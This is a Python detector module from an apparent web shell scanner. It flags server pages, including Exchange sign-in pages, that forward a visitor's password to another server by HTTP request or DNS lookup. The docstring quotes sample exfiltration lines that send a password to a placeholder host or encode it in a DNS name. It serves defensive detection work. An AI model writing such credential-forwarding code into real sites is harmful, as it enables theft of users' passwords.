"""A page sends the password of a visitor to another server.

What it finds:
    A password of the request (a value that is read by the name of a password, of a password field of the page, or of a
    value that a script of the page fills from one) that becomes a part of the address or of the content of an HTTP
    request to a fixed server, or of a host name that the server looks up. In the sign-in directories of Exchange, any
    request data that does: but for a page that asks only services for captchas and second factors, which may have all
    fields except the password, and with low severity for a field that is named as a token or a code for one use.

Why it matters:
    It is the second part of a modified sign-in page: the script there sends the typed values to a page of the same
    site, and this page passes them on. A look-up of a host name leaves by the name server, even if the firewall lets
    the server connect to nothing.

Looks like:
    ``DownloadString("http://host/?" + Request.Form["password"])``; ``Dns.GetHostEntry(password + ".domain")``.

Benign look-alikes:
    Sign-in with an account of another service, whose interface takes the password; gateways of short messages, whose
    password is a setting. A look-up of the visitor's address. A captcha or a second factor that administrators added to
    the sign-in. Measured: 0 of 38,046 honest pages and source files.

Blind spots:
    Passwords that go by mail or to a database; values that are encrypted by a function in another file; a password that
    another page of the site sends to this one as a token.
"""

from collections.abc import Iterator, Sequence

from webshellhunt.analysis.flow.flows import Flow
from webshellhunt.analysis.prefilter.features import flows_to
from webshellhunt.analysis.structure.request_keys import request_key
from webshellhunt.analysis.traces import MAX_TRACES
from webshellhunt.detectors.contract import Findings, claim, define_rule, detector
from webshellhunt.lazy_pattern import lazy_pattern
from webshellhunt.model.places import SIGN_IN_ROLES
from webshellhunt.model.rules import Confidence, Severity
from webshellhunt.views.sample import Code, Layer

RULE = define_rule(__name__, "WSH1047", "high", "medium", "T1505.003", "T1056.003", "T1048.003")
_PASSWORD = lazy_pattern(r"(?i)(?:txt|str|user|s|j_)?_?(?:password(?:text)?|passwd|passw|pswd|pwd)")
_TOKEN = lazy_pattern(
    r"(?i)(?:[\w-]+[-_])?(?:captcha|recaptcha|turnstile|otp|totp|mfa|2fa|passcode|pin|token|code|challenge)(?:[-_]?\w{1,20})?"
    r"|(?:security|verification|auth)code|sig_response"
)
_SERVICE = lazy_pattern(
    r"(?i)https://(?:www\.(?:google\.com|recaptcha\.net)/recaptcha/|recaptchaenterprise\.googleapis\.com/"
    r"|(?:[\w-]+\.)?hcaptcha\.com/|challenges\.cloudflare\.com/turnstile/|[\w.-]+\.(?:duosecurity|okta)\.com/)"
)
"""Addresses of services that check captchas and second factors."""
_WAYS = {
    "fetch": "is in the address of an HTTP request",
    "send": "is the content of an HTTP request",
    "resolve": "is in a host name that the server looks up",
}


@detector(RULE, on=Code, needs=[flows_to(*_WAYS)])
def find(code: Code, layer: Layer) -> Findings:
    """Report the first password, or in a sign-in directory the first request data, that is sent to another server."""
    flows = [each for flow in code.analysis.all_flows() if flow.kind in _WAYS for each in _of_visitor(flow)]
    if not flows:
        return
    is_sign_in = layer.sample.artifact.role in SIGN_IN_ROLES
    browsed = layer.browsed
    fields = frozenset[str]() if browsed is None else browsed.fields
    password = next((flow for flow in flows if _is_password(flow, code, fields)), None)
    flow = password or (_first_sent(flows, code) if is_sign_in else None)
    if flow is None or flow.trace is None:
        return
    data = "the password of a request" if password else "request data of a sign-in directory"
    is_certain = is_sign_in and password is not None
    yield claim(
        RULE,
        f"{data} {_WAYS[flow.kind]}: {flow.words}",
        layer.place_evidence(code, flow.place),
        layer.place_evidence(code, flow.trace.place),
        severity=Severity.CRITICAL if is_certain else Severity.LOW if not password and _is_token(flow, code) else None,
        confidence=Confidence.HIGH if is_certain else None,
        facts={"request_key": flow.key} if flow.key else {},
    )


def _first_sent(flows: Sequence[Flow], code: Code) -> Flow | None:
    """Return the first value that a page of the sign-in sends, one that is no token before one that is.

    If the page asks only services that check a captcha or a second factor, all values count whose names are not known.
    """
    if _asks_services_alone(code):
        flows = [flow for flow in flows if not _key(flow, code)]
    return min(flows, key=lambda flow: _is_token(flow, code), default=None)


def _asks_services_alone(code: Code) -> bool:
    """Return True if all servers that the code asks are known services of a sign-in."""
    calls = [call for call in code.analysis.asked("fetched") if call.arguments]
    addresses = [call.arguments[call.names[-1] == "open" and len(call.arguments) > 1] for call in calls]
    begins = [form[0] for address in addresses for form in address.forms]
    return bool(begins) and all(isinstance(begin, str) and _SERVICE.match(begin) for begin in begins)


def _is_token(flow: Flow, code: Code) -> bool:
    return _TOKEN.fullmatch(_key(flow, code)) is not None


def _key(flow: Flow, code: Code) -> str:
    """Return the name of a value, ``""`` where it is not known, or more values may be sent than the analysis keeps."""
    return "" if len(flow.traces) >= MAX_TRACES else request_key(flow, code.analysis.index, code.analysis.constants)


def _of_visitor(flow: Flow) -> Iterator[Flow]:
    """Yield a flow for each value of a request in what is sent.

    `request-fetched-for-visitor` reports whole addresses.
    """
    if not (flow.kind == "fetch" and flow.shape.is_whole):
        yield from (each for trace in flow.traces if (each := flow._replace(trace=trace)).from_visitor)


def _is_password(flow: Flow, code: Code, fields: frozenset[str]) -> bool:
    key = request_key(flow, code.analysis.index, code.analysis.constants)
    return key in fields or _PASSWORD.fullmatch(key) is not None
